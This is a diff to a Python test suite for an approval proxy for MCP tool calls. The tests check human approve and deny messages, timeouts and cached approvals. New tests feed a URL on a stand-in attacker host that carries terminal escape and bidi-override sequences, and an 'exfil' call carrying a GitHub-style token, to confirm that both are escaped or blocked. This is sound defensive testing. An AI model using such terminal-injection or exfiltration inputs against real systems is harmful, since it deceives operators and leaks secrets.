@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import json
 import os
+import pwd
 import re
 import signal
 import subprocess
@@ -115,6 +116,7 @@ def test_approve_deny_timeout_and_cancel(approvals: Any) -> None:
     assert waiting[0]["paths"] == [str(project / "approved.md")]
     approved = cli("approve", waiting[0]["id"])
     assert approved.returncode == 0, approved.stderr
+    assert approved.stdout == f"{waiting[0]['id']}: allow_once; the proxy: allowed\n"
     answer = proxy.recv()
     assert answer["id"] == request_id
     assert "result" in answer
@@ -122,10 +124,12 @@ def test_approve_deny_timeout_and_cancel(approvals: Any) -> None:
 
     # deny
     request_id = write_request(proxy, project, "denied.md")
-    assert cli("deny", pending()[0]["id"]).returncode == 0
+    denied = cli("deny", pending()[0]["id"])
+    assert denied.returncode == 0
+    assert ": deny; the proxy: denied: approval required by rule ask-writes" in denied.stdout
     answer = proxy.recv()
     assert answer["error"]["code"] == DENIED
-    assert "not approved (deny)" in answer["error"]["message"]
+    assert "; not approved: denied by " in answer["error"]["message"]
     assert not (project / "denied.md").exists()
 
     # nobody answers: denied at the timeout
@@ -133,7 +137,7 @@ def test_approve_deny_timeout_and_cancel(approvals: Any) -> None:
     request_id = write_request(proxy, project, "late.md")
     answer = proxy.recv(timeout=30)
     assert answer["id"] == request_id
-    assert "not approved (timeout" in answer["error"]["message"]
+    assert "; not approved: timeout after 5 s (request" in answer["error"]["message"]
     assert 4.5 <= time.monotonic() - started < 20
     assert not (project / "late.md").exists()
 
@@ -166,6 +170,9 @@ def test_approve_deny_timeout_and_cancel(approvals: Any) -> None:
         ("ask", "deny", "cli"),  # timed out
         ("ask", "deny", "cli"),  # cancelled by the client: on record as a denial
     ]
+    me = pwd.getpwuid(os.geteuid()).pw_name
+    assert decisions[1]["reason"].endswith(f"; not approved: denied by {me}")
+    assert decisions[2]["reason"].endswith("; not approved: timeout after 5 s")
     assert decisions[3]["reason"].endswith("cancelled by the client")
     assert decisions[0]["approved_by"]
     assert decisions[0]["approval_seconds"] > 0
@@ -183,7 +190,7 @@ def test_remember_status_and_reload(approvals: Any, isolated_home: Path) -> None
     request_id = write_request(proxy, project, "kept.md")
     approved = cli("approve", pending()[0]["id"], "--remember")
     assert approved.returncode == 0, approved.stderr
-    assert "allow_and_cache" in approved.stdout
+    assert approved.stdout.endswith(": allow_and_cache; the proxy: allowed; remembered\n")
     assert "result" in proxy.recv()
     # the same write again: answered from the cache, nobody is asked
     request_id = write_request(proxy, project, "kept.md")
@@ -375,6 +382,15 @@ def test_an_approval_answered_after_a_reload_is_decided_by_the_new_policy(
     reloaded = wait_for_event(run.log_dir, "system", "policy_reloaded")
     approved = run.cli("approve", waiting["id"], "--remember")
     assert approved.returncode == 0, approved.stderr
+    # what the CLI prints is what the proxy then did, not what was sent alone
+    said = f"{waiting['id']}: allow_and_cache; the proxy: "
+    if effect == "deny":
+        assert approved.stdout.startswith(f"{said}denied: denied by rule {new_rule}")
+        assert "replaced while the request waited" in approved.stdout
+    else:
+        assert approved.stdout == (
+            f"{said}allowed; not remembered: the policy changed while the request waited\n"
+        )
     answer = run.proxy.answer(first)
     if effect == "deny":
         assert answer["error"]["code"] == DENIED
@@ -428,7 +444,7 @@ def test_the_policys_approval_terms_replace_the_configs(asking: Callable[..., As
     second = run.echo("one")  # asked again; nobody answers: denied after the policy's 5 s
     assert run.pending()
     answer = run.proxy.answer(second, timeout=60)
-    assert "not approved (timeout" in answer["error"]["message"]
+    assert "; not approved: timeout after 5 s (request" in answer["error"]["message"]
     assert run.status()["remembered_approvals"] == 0
     assert run.proxy.close() == 0
     assert run.echoed() == ["one"]
@@ -512,3 +528,108 @@ def test_when_the_backend_exits_every_request_waiting_is_answered_and_recorded(
         ("server_to_client", "error", -32000),
     ]
     assert run.echoed() == []
+
+
+def test_the_human_sees_every_argument_the_uri_and_the_prompt_escaped(
+    asking: Callable[..., Asking],
+) -> None:
+    """What ``mcp-acp approvals list`` shows: a tool's arguments by name (a long value cut,
+    saying how long), a resource's URI, a prompt's name and arguments — with nothing a
+    client put in them reaching the terminal as a control sequence or a bidi override;
+    ``list --json`` gives the arguments whole."""
+    methods = ["tools/call", "resources/read", "prompts/get"]
+    rules = [
+        {"id": f"ask-{n}", "effect": "ask", "conditions": {"mcp_method": method}}
+        for n, method in enumerate(methods)
+    ]
+    run = asking({"version": "1", "rules": rules})
+    hostile = "https://attacker.example/?d=ok\x1b[2K\x1b]0;PWNED\x07\u202eevil"
+    arguments = {"url": hostile, "body": "x" * 300}
+    fetch = run.proxy.request("tools/call", {"name": "fetch", "arguments": arguments})
+    (waiting,) = run.pending()
+    assert waiting["arguments"] == arguments
+    listed = run.cli("list")
+    assert listed.returncode == 0, listed.stderr
+    for raw in ("\x1b", "\x07", "\u202e"):
+        assert raw not in listed.stdout
+    shown = (
+        'wants tools/call fetch (url="https://attacker.example/?d=ok\\u001b[2K'
+        '\\u001b]0;PWNED\\u0007\\u202eevil", body="' + "x" * 199 + "… (302 characters)); "
+        "rule ask-0"
+    )
+    assert shown in listed.stdout
+    assert run.cli("deny", waiting["id"]).returncode == 0
+    assert run.proxy.answer(fetch)["error"]["code"] == DENIED
+
+    read = run.proxy.request("resources/read", {"uri": "note://payroll/all-salaries"})
+    (waiting,) = run.pending()
+    assert waiting["uri"] == "note://payroll/all-salaries"
+    assert "wants resources/read note://payroll/all-salaries; rule ask-1" in run.cli("list").stdout
+    assert run.cli("deny", waiting["id"]).returncode == 0
+    assert run.proxy.answer(read)["error"]["code"] == DENIED
+
+    prompt = {"name": "summarise", "arguments": {"text": "anything"}}
+    get = run.proxy.request("prompts/get", prompt)
+    (waiting,) = run.pending()
+    assert (waiting["name"], waiting["arguments"]) == ("summarise", {"text": "anything"})
+    listed = run.cli("list").stdout
+    assert 'wants prompts/get summarise (text="anything"); rule ask-2' in listed
+    assert run.cli("deny", waiting["id"]).returncode == 0
+    assert run.proxy.answer(get)["error"]["code"] == DENIED
+    assert run.proxy.close() == 0
+
+
+def test_approvals_and_status_find_the_configs_socket_dir(
+    asking: Callable[..., Asking], isolated_home: Path
+) -> None:
+    """The proxy serves its socket in the config's ``proxy.socket_dir``; ``mcp-acp
+    approvals`` and ``mcp-acp status`` without ``--socket-dir`` look there too (not in the
+    runtime dir), so the request is answered instead of timing out."""
+    run = asking(ASK_ECHO)
+    assert run.sockets != Path(run.env["XDG_RUNTIME_DIR"]) / "mcp-acp"
+
+    def cli(*args: str) -> subprocess.CompletedProcess[str]:  # no --socket-dir
+        return subprocess.run(
+            [str(CLI), *args], env=run.env, capture_output=True, text=True, timeout=30
+        )
+
+    request = run.echo("one")
+    run.pending()
+    (waiting,) = json.loads(cli("approvals", "list", "--json").stdout)
+    (found,) = json.loads(cli("status", "--json").stdout)
+    assert found["pid"] == run.proxy.proc.pid
+    approved = cli("approvals", "approve", waiting["id"])
+    assert approved.returncode == 0, approved.stderr
+    assert "result" in run.proxy.answer(request)
+    assert run.proxy.close() == 0
+    assert run.echoed() == ["one"]
+
+
+def test_a_remembered_approval_is_of_the_same_call_and_never_of_a_credential(
+    asking: Callable[..., Asking],
+) -> None:
+    """``echo "hello"`` approved with --remember: the same call again passes unasked; a
+    call carrying a GitHub token is another call — asked under the rule, the summary saying
+    what it carries —, and once that too is remembered, the same call with the token is
+    still asked about (no human saw this one: rule builtin-secret-outbound)."""
+    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
+    run = asking(ASK_ECHO)
+    first = run.echo("hello")
+    (waiting,) = run.pending()
+    assert run.cli("approve", waiting["id"], "--remember").returncode == 0
+    assert "result" in run.proxy.answer(first)
+    assert "result" in run.proxy.answer(run.echo("hello"))  # remembered
+
+    exfil = run.echo(f"exfil {token}")
+    (waiting,) = run.pending()  # not the remembered call: asked
+    assert waiting["rule"] == "ask-echo"
+    assert waiting["summary"].endswith("; the arguments carry what looks like a GitHub token")
+    assert run.cli("approve", waiting["id"], "--remember").returncode == 0
+    assert "result" in run.proxy.answer(exfil)
+    again = run.echo(f"exfil {token}")
+    (waiting,) = run.pending()  # remembered, yet no human saw this call
+    assert waiting["rule"] == "builtin-secret-outbound"
+    assert run.cli("deny", waiting["id"]).returncode == 0
+    assert run.proxy.answer(again)["error"]["data"] == {"rule": "builtin-secret-outbound"}
+    assert run.proxy.close() == 0
+    assert run.echoed() == ["hello", "hello", f"exfil {token}"]
